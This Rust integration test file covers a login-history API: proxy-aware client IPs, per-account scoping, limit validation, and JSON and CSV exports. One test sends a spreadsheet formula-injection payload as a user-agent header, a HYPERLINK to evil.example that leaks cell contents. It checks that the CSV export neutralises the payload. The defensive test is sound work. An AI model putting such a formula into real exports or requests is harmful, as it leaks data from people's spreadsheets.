use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::{PASSWORD, TestApp, assert_error, read, spawn_app, spawn_app_with};

async fn login_via_proxy(app: &TestApp, password: &str, forwarded_for: &str) -> StatusCode {
    app.client
        .post(app.url("/api/v1/auth/login"))
        .header("x-forwarded-for", forwarded_for)
        .json(&json!({"email": "ada@example.com", "password": password}))
        .send()
        .await
        .unwrap()
        .status()
}

#[tokio::test]
async fn history_records_success_and_failure_with_the_client_ip_behind_a_trusted_proxy() {
    let app = spawn_app_with(|c| c.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()]).await;
    app.signup("ada@example.com", PASSWORD).await;
    assert_eq!(login_via_proxy(&app, "Wrong-Password-1!", "203.0.113.9").await, StatusCode::UNAUTHORIZED);
    assert_eq!(login_via_proxy(&app, PASSWORD, "6.6.6.6, 81.2.69.142").await, StatusCode::OK);
    let token = app.token_for("ada@example.com", PASSWORD).await;

    let rows = app.get("/api/v1/me/login-history", &token).await.body;
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1]["success"], true);
    assert_eq!(rows[1]["ip"], "81.2.69.142", "the right-most untrusted hop");
    assert_eq!(rows[1]["failure"], Value::Null);
    assert_eq!(rows[1]["mfa_challenged"], false);
    assert_eq!(rows[1]["method"], "password");
    assert_eq!(rows[1]["user_agent"], "latchkey-tests/1.0");
    assert_eq!(rows[1]["device_kind"], "browser");
    assert_eq!(rows[2]["success"], false);
    assert_eq!(rows[2]["ip"], "203.0.113.9");
    assert_eq!(rows[2]["failure"], "invalid_password");
    assert_eq!(rows[2]["location"]["label"], "Unknown");
    assert_eq!(rows[0]["ip"], "127.0.0.1", "no header: the proxy itself");
    assert_eq!(rows[0]["location"], json!({"label": "Local network"}));
}

#[tokio::test]
async fn forwarded_for_from_an_untrusted_peer_is_ignored() {
    let app = spawn_app().await;
    app.signup("ada@example.com", PASSWORD).await;
    assert_eq!(login_via_proxy(&app, PASSWORD, "81.2.69.142").await, StatusCode::OK);
    let token = app.token_for("ada@example.com", PASSWORD).await;
    let rows = app.get("/api/v1/me/login-history", &token).await.body;
    assert!(rows.as_array().unwrap().iter().all(|r| r["ip"] == "127.0.0.1"), "{rows}");
}

#[tokio::test]
async fn history_is_the_accounts_own_and_respects_the_limit() {
    let app = spawn_app().await;
    let token = app.signed_in_user("ada@example.com").await;
    app.signed_in_user("bob@example.com").await;
    for _ in 0..3 {
        app.login("ada@example.com", "Wrong-Password-1!").await;
    }
    assert_eq!(app.get("/api/v1/me/login-history", &token).await.body.as_array().unwrap().len(), 4);
    let limited = app.get("/api/v1/me/login-history?limit=2", &token).await.body;
    assert_eq!(limited.as_array().unwrap().len(), 2);
    for bad in ["0", "501", "ten", "-1"] {
        let r = app.get(&format!("/api/v1/me/login-history?limit={bad}"), &token).await;
        assert_error(&r, StatusCode::BAD_REQUEST, "invalid_request");
    }
    assert_error(
        &app.get("/api/v1/me/login-history?format=xml", &token).await,
        StatusCode::BAD_REQUEST,
        "invalid_request",
    );
}

#[tokio::test]
async fn exports_parse_and_match_the_json_api() {
    let app = spawn_app().await;
    let token = app.signed_in_user("ada@example.com").await;
    app.login("ada@example.com", "Wrong-Password-1!").await;
    let api = app.get("/api/v1/me/login-history", &token).await.body;

    let json_dl =
        app.client.get(app.url("/api/v1/me/login-history?format=json")).bearer_auth(&token).send().await.unwrap();
    let disposition = json_dl.headers()["content-disposition"].to_str().unwrap().to_owned();
    assert!(disposition.starts_with("attachment"), "{disposition}");
    assert_eq!(read(json_dl).await.body, api);

    let csv_dl =
        app.client.get(app.url("/api/v1/me/login-history?format=csv")).bearer_auth(&token).send().await.unwrap();
    assert!(csv_dl.headers()["content-disposition"].to_str().unwrap().contains(".csv"));
    let text = csv_dl.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), api.as_array().unwrap().len());
    for (record, row) in records.iter().zip(api.as_array().unwrap()) {
        let field = |name: &str| record.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
        assert_eq!(field("at"), row["at"].as_str().unwrap());
        assert_eq!(field("success"), row["success"].to_string());
        assert_eq!(field("ip"), row["ip"].as_str().unwrap());
        assert_eq!(field("user_agent"), row["user_agent"].as_str().unwrap());
        assert_eq!(field("location"), row["location"]["label"].as_str().unwrap());
        assert_eq!(field("mfa_challenged"), row["mfa_challenged"].to_string());
        assert_eq!(field("failure"), row["failure"].as_str().unwrap_or(""));
    }
}

#[tokio::test]
async fn a_user_agent_that_is_a_formula_is_exported_as_text() {
    let app = spawn_app().await;
    let token = app.signed_in_user("ada@example.com").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let r = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .header("user-agent", formula)
        .json(&serde_json::json!({"email": "ada@example.com", "password": "Wrong-Password-1!"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    // The JSON keeps it as it came; the spreadsheet download cannot run it.
    let api = app.get("/api/v1/me/login-history", &token).await.body;
    assert_eq!(api[0]["user_agent"], formula);
    let csv_dl =
        app.client.get(app.url("/api/v1/me/login-history?format=csv")).bearer_auth(&token).send().await.unwrap();
    let text = csv_dl.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader.headers().unwrap().iter().position(|h| h == "user_agent").unwrap();
    let first = reader.records().next().unwrap().unwrap();
    assert_eq!(first.get(column).unwrap(), format!("'{formula}"));
}
